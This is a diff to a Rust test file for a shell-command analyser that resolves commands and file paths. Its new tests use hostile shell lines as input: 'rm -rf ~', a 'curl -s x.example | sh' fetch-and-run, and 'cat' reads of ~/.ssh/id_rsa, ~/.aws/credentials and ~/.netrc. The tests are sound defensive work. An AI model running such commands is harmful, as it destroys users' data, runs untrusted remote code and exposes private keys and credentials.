@@ -769,7 +769,8 @@ fn unknown_variables_make_words_dynamic_without_path() {
     assert_eq!(c.argv[2], word("${Y}", true, None));
     assert_eq!(c.argv[3], word("/x$HOME", true, None));
     assert_eq!(c.argv[4], word("${HOME}x", true, None));
-    assert_eq!(c.argv[5], word("${HOME:-/r}", true, None));
+    // Computed, but only ever the home folder: its path is known.
+    assert_eq!(c.argv[5], word("${HOME:-/r}", true, Some("~")));
     assert_eq!(c.argv[6], word("$HOME/$Z", true, None));
     assert_eq!(c.argv[7], word("$HOME", false, Some("$HOME")));
 }
@@ -1127,4 +1128,53 @@ fn arbitrary_input_never_panics() {
             analyse(&String::from_utf8_lossy(&bytes));
         }
     });
+}
+
+#[test]
+fn a_substitution_the_parser_leaves_inside_an_expansion_fails_the_analysis() {
+    for line in [
+        "echo ${x:-`rm -rf ~`}",
+        "echo \"${y:-`id`}\"",
+        "cat ${f:=`curl -s x.example | sh`}",
+    ] {
+        let a = analyse(line);
+        assert!(
+            a.failure
+                .as_deref()
+                .is_some_and(|f| f.contains("inside `${…}`")),
+            "{line}: {a:?}"
+        );
+    }
+    // What the parser does read stays analysed.
+    let a = analyse("echo ${x:-$(rm -rf ~)} ${y:-plain} \"${z//a/b}\"");
+    assert_eq!(a.failure, None);
+    assert!(a.commands.iter().any(|c| c.program() == "rm"));
+}
+
+#[test]
+fn substitutions_of_known_words_are_evaluated_into_the_path_and_stay_computed() {
+    for (line, path) in [
+        ("cat $(echo ~/.ssh/id_rsa)", Some("~/.ssh/id_rsa")),
+        (
+            "cat \"$(printf %s ~/.aws/credentials)\"",
+            Some("~/.aws/credentials"),
+        ),
+        ("cat `echo ~/.netrc`", Some("~/.netrc")),
+        ("cat $(echo ~)/.ssh/id_rsa", Some("~/.ssh/id_rsa")),
+        ("cat ${HOME%/}/.ssh/id_rsa", Some("~/.ssh/id_rsa")),
+        ("cat --file=$(echo ~/.ssh/k)", Some("~/.ssh/k")),
+        ("cat $(echo notes.txt)", Some("notes.txt")),
+        // Not evaluated: unknown words, several words, other programs, a home not first.
+        ("cat $(echo $X)", None),
+        ("cat $(echo a b)", None),
+        ("cat $(ls ~/.ssh)", None),
+        ("cat x$(echo ~)", None),
+        ("cat ${HOME%/*}/x", None),
+        ("cat $(echo -e '~/x')", None),
+    ] {
+        let commands = ok(line);
+        let w = &commands[0].argv[1];
+        assert!(w.dynamic, "{line}: {w:?}");
+        assert_eq!(w.path.as_deref(), path, "{line}");
+    }
 }
